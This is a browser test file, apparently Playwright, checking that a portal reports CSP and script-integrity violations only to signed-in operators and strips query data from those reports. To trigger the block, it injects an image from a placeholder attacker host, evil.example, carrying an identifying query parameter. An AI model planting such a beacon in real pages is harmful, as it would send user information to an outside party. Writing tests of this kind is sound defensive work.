// What a page's policies refuse is reported, and an operator reads it: the page, the rule, where it came from, and no query.
import { test, expect } from "../fixtures/test.ts";

test("a refused picture and a script without its hash are told to operators and to nobody else", async ({ page, portal }) => {
  await portal.open("/?region=1168000000");
  // Chromium sends reports by itself only to addresses with TLS; here the page sends what the browser says, as it says it.
  const sent = await page.evaluate(() => new Promise<string[]>((done) => {
    const seen = new Map<string, unknown>();
    new ReportingObserver((reports) => {
      for (const { type, url, body } of reports) seen.set(type, { type, url, age: 0, user_agent: "", body: (body as { toJSON(): unknown }).toJSON() });
      if (!seen.has("csp-violation") || !seen.has("integrity-violation")) return;
      const body = JSON.stringify([...seen.values()]);
      void fetch("/-/reports", { method: "POST", headers: { "content-type": "application/reports+json" }, body }).then(() => done([...seen.keys()]));
    }).observe();
    const { shell } = JSON.parse(document.getElementById("jgb-page")!.textContent!) as { shell: { js: string } };
    const script = shell.js.replace(/[^/]*$/, "boot.js");
    document.body.append(Object.assign(new Image(), { src: "https://evil.example/pixel.png?who=kim" }));
    import(script).catch(() => {});
  }));
  expect(sent).toEqual(expect.arrayContaining(["csp-violation", "integrity-violation"]));
  expect((await page.request.get("/-/reports")).status()).toBe(401);
  await portal.signIn("operator@demo");
  const answer = await page.request.get("/-/reports");
  const { reports } = await answer.json();
  expect(reports).toEqual(expect.arrayContaining([
    expect.objectContaining({ type: "csp-violation", page: "/", directive: "img-src", blocked: "https://evil.example", reportOnly: false }),
    expect.objectContaining({ type: "integrity-violation", page: "/", directive: "script", blocked: new URL(page.url()).origin }),
  ]));
  expect(JSON.stringify(reports)).not.toMatch(/who=kim|region=/);
});
